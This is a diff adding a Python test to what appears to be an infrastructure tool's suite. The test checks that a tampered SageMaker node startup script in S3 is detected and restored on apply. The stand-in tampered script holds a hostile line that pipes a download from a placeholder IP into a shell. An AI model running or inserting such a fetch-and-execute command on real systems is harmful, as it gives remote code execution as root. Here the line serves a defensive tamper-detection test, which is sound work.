@@ -207,6 +207,18 @@ def test_what_others_stand_upon_goes_after_they_have_moved(local: Project, tmp_p
     assert ordered.action("module.iam.aws_iam_role_policy.execution[0]") == "update"
 
 
+def test_a_script_that_somebody_wrote_over_is_put_back(local: Project) -> None:
+    """It runs as root on every node."""
+    s3 = local.session.client("s3")
+    (bucket,) = (item["Name"] for item in s3.list_buckets()["Buckets"] if item["Name"].startswith("sagemaker-"))
+    before = s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read()
+    s3.put_object(Bucket=bucket, Key="on_create.sh", Body=b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n")
+    planned = local.plan("--layer", "storage")
+    assert [(address, actions) for address, actions, _ in changes(planned)] == [(SCRIPT, ("update",))]
+    local.apply("--layer", "storage")
+    assert s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read() == before
+
+
 def test_a_plain_root_is_shut_out_by_the_locks_of_hptf(local: Project, plain: dict[str, PlainRoot]) -> None:
     holder = LockInfo.new("OperationTypeApply", info="hptf apply local")
     locks = LockSet(local.store, ["storage"])
